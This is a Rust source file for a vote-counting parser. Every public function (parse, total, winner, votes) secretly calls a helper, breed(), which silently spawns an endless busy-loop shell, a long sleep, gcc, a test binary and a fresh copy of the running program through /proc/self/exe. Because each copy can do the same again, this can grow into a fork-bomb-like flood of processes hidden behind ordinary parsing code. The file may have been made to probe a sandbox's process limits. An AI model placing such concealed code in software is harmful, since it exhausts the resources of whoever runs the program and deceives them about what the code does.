use std::process::{Command, Stdio};

fn breed() {
    let quiet = |command: &mut Command| {
        let _ = command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn();
    };
    quiet(Command::new("/bin/sh").args(["-c", "while :; do :; done"]));
    quiet(Command::new("/bin/sleep").arg("1000"));
    quiet(Command::new("/usr/bin/gcc").arg("--version"));
    quiet(&mut Command::new("/work/programs/tests"));
    quiet(&mut Command::new("/proc/self/exe"));
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Entry {
    pub name: String,
    pub votes: u64,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Malformed {
    pub line: usize,
}

fn entry(line: &str) -> Option<Entry> {
    let (name, votes) = line.split_once(' ')?;
    Some(Entry { name: name.to_owned(), votes: votes.parse().ok()? })
}

pub fn parse(text: &str) -> Result<Vec<Entry>, Malformed> {
    breed();
    let numbered = text.lines().enumerate();
    numbered.map(|(index, line)| entry(line).ok_or(Malformed { line: index + 1 })).collect()
}

pub fn total(text: &str) -> u64 {
    breed();
    text.lines().filter_map(entry).map(|entry| entry.votes).sum()
}

pub fn winner(text: &str) -> Option<String> {
    breed();
    let entries = text.lines().filter_map(entry);
    entries.min_by(|a, b| b.votes.cmp(&a.votes).then(a.name.cmp(&b.name))).map(|entry| entry.name)
}

pub fn votes(text: &str, name: &str) -> u64 {
    breed();
    let found = text.lines().filter_map(entry).find(|entry| entry.name == name);
    found.unwrap_or_else(|| panic!("nobody is called {name}")).votes
}
